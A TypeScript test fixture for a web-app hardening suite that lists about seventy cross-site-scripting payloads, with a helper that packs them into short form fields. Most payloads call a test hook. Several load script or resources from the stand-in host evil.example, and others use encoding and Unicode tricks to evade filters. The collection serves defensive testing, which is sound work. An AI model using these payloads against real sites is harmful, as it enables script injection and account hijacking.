// Script-injection strings for the hardening suite. Each one, were it ever run as
// code, would call window.__pwned(n) (a binding the test exposes), open a dialog,
// change document.title, fetch from another origin, or break the page's CSP: all
// of which the suite watches for. Each is at most PAYLOAD_MAX characters, so one
// fits beside a marker in the shortest field that has landed (a phone number).

/** The longest a payload may be: a 60-character field less a marker and a space. */
export const PAYLOAD_MAX = 44;

const ZWSP = '\u200b';
const ZWJ = '\u200d';
const RLO = '\u202e';
const FULL_LT = '\uff1c';
const FULL_GT = '\uff1e';

export const PAYLOADS: readonly string[] = [
  // Plain script, and the classic mixed-case and attribute-breaking variants.
  '<script>__pwned(1)</script>',
  '<ScRiPt>__pwned(2)</sCrIpT>',
  '"><script>__pwned(3)</script>',
  "'><script>__pwned(4)</script>",
  '</textarea><script>__pwned(5)</script>',
  '</title><script>__pwned(6)</script>',
  '--><script>__pwned(7)</script><!--',
  '<![CDATA[<script>__pwned(8)</script>]]>',
  '<script src=data:,__pwned(9)></script>',
  '<script src=//evil.example/10.js></script>',
  // Event-handler attributes.
  '<img src=x onerror=__pwned(11)>',
  '<IMG SRC=x OnErRoR=__pwned(12)>',
  '<svg onload=__pwned(13)>',
  '<svg><script>__pwned(14)</script></svg>',
  '<body onload=__pwned(15)>',
  '<details open ontoggle=__pwned(16)>',
  '<input autofocus onfocus=__pwned(17)>',
  '<video><source onerror=__pwned(18)>',
  '<audio src=x onerror=__pwned(19)>',
  '<marquee onstart=__pwned(20)>',
  '<svg><animate onbegin=__pwned(21) dur=1s>',
  '<x onmouseover=__pwned(22)>hover me</x>',
  '<img src=x onerror=alert(23)>',
  '<script>alert(24)</script>',
  '<script>document.title="PWNED25"</script>',
  // Frames, objects, navigation.
  '"><iframe srcdoc="<svg onload=__pwned(26)>">',
  '<iframe src="javascript:__pwned(27)">',
  '<object data="javascript:__pwned(28)">',
  '<embed src="javascript:__pwned(29)">',
  '<meta http-equiv=refresh content=0;url=//e.x',
  '<base href="javascript:__pwned(31)//">',
  '<form action=javascript:__pwned(32)><button>',
  // javascript: and data: URLs, bare and as links (HTML and markdown).
  'javascript:__pwned(33)',
  'JaVaScRiPt:__pwned(34)',
  '  javascript:__pwned(35)',
  'java\tscript:__pwned(36)',
  '[tap me](javascript:__pwned(37))',
  '<a href="javascript:__pwned(38)">tap</a>',
  'data:text/html,<script>__pwned(39)</script>',
  '[x](data:text/html;base64,PHNjcmlwdD4K)',
  '<svg><a href="javascript:__pwned(41)"><text>',
  // Template literals and template-engine expressions.
  '${__pwned(42)}',
  '`${__pwned(43)}`',
  "{{constructor.constructor('__pwned(44)')()}}",
  '#{__pwned(45)}',
  '<%= __pwned(46) %>',
  // String-breaking, for code that might build script from text.
  "');__pwned(47);//",
  '";__pwned(48);//',
  // CSS: expressions, javascript: in url(), and loads from elsewhere.
  '<div style="width:expression(__pwned(49))">',
  '<b style=color:url(javascript:__pwned(50))>',
  '<style>@import"//evil.example/51"</style>',
  '<link rel=stylesheet href=//evil.example/52>',
  '<img src=//evil.example/53.png>',
  '<style>*{background:url(//e.x/54)}</style>',
  // HTML entities and other encodings of the same.
  '&lt;script&gt;__pwned(55)&lt;/script&gt;',
  '&#60;img src=x onerror=__pwned(56)&#62;',
  '<img src=x onerror=&#95;&#95;pwned(57)>',
  '<a href="javas&#99;ript:__pwned(58)">tap</a>',
  '%3Cscript%3E__pwned(59)%3C/script%3E',
  '\\u003cscript\\u003e__pwned(60)\\u003c/script',
  // Unicode: zero-width characters, full-width brackets, right-to-left override.
  `<scr${ZWSP}ipt>__pwned(61)</scr${ZWSP}ipt>`,
  `<img src=x on${ZWJ}error=__pwned(62)>`,
  `${FULL_LT}script${FULL_GT}__pwned(63)${FULL_LT}/script${FULL_GT}`,
  `${RLO}>tpircs/<)46(denwp__>tpircs<`,
  // Mutation XSS through foreign content and noscript parsing.
  '<math><style><img src=x onerror=__pwned(65)>',
  '<noscript><p title="</noscript><img src=x>',
];

/**
 * Packs payloads into values of at most `limit` characters, each starting with its
 * own marker (from `nextMarker`), so every payload lands in a field at least once.
 */
export function packPayloads(
  limit: number,
  nextMarker: () => string,
  payloads: readonly string[] = PAYLOADS,
): string[] {
  const values: string[] = [];
  let current = '';
  for (const payload of payloads) {
    if (current && current.length + 1 + payload.length <= limit) {
      current += ` ${payload}`;
      continue;
    }
    if (current) values.push(current);
    current = `${nextMarker()} ${payload}`;
    if (current.length > limit) {
      throw new Error(`a payload does not fit in ${limit} characters: ${payload}`);
    }
  }
  if (current) values.push(current);
  return values;
}
